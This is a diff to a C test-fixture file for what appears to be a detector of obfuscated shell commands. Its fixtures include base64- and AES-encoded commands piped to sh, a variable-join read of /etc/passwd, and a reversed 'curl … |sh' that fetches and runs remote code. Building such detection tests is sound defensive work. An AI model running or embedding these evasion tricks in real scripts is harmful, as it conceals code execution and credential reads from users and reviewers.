@@ -8,6 +8,13 @@
 #include "flow.h"
 
 static const struct hidden good[] = {
+	{ "base64", "id;uname -a",
+		"echo 'aW-Q7.dW5-hb*WUgLWE='|base64 -di|sh" },
+	{ "base64+aes", "id;uname -a",
+		"echo bNABH0HE13qsEaWX+vvTKw==|openssl enc -d "
+		"-aes-128-cbc -K 00112233445566778899aabbccddeeff -iv 0f -a "
+		"-A|sh" },
+	{ "join", "cat /etc/passwd", "a=c;b=at;c=/etc/pas;d=swd;$a$b $c$d" },
 	/* Programs as filters. */
 	{ "reverse", "curl -s h|sh",
 		"echo 'hs|h s- lruc'|awk '{for(i=length($0);i;i--)"
@@ -182,9 +189,18 @@ static const struct hidden good[] = {
 };
 
 /* Text that is reshaped and given to no interpreter, and what nobody knows. */
-static const char *const not [] = { "echo a b c|awk '{print $2,$1}'|sh",
-	"seq 3|awk '{s+=$1}END{print s}'", "echo a:b|awk -F: '{print $2}'|sh",
-	"ps|awk 'NR>1{print $1}'|sh", "printf '%s\\n' b a|awk '/a/{print}'|sh",
+static const char *const not [] = { "t=curl; $t -o /tmp/x$t h",
+	"for t in curl wget; do $t --version; done",
+	/* What is not known of a filter's output. */
+	"echo 'w;di'|awk '/zz/{for(i=length($0);i;i--)printf "
+	"\"%s\",substr($0,i,1)}'|sh",
+	"echo 'je<mt'|python3 -c 'import sys;s=sys.stdin.read().strip();"
+	"print(\"\".join(chr(ord(c)-1) for c in s[:2]),end=\"\");"
+	"print(f(s),end=\"\");"
+	"print(\"\".join(chr(ord(c)-1) for c in s[2:]))'|sh",
+	"echo a b c|awk '{print $2,$1}'|sh", "seq 3|awk '{s+=$1}END{print s}'",
+	"echo a:b|awk -F: '{print $2}'|sh", "ps|awk 'NR>1{print $1}'|sh",
+	"printf '%s\\n' b a|awk '/a/{print}'|sh",
 	"cat <<E | sed \"s/@USER@/bob/\" | sh\necho @USER@ is here\nE",
 	"echo 'print(1)' | sed 's/1/2/' | python3",
 	"eval \"$(echo 'export A=b' | sed 's/b/c/')\"", "echo racecar | rev",
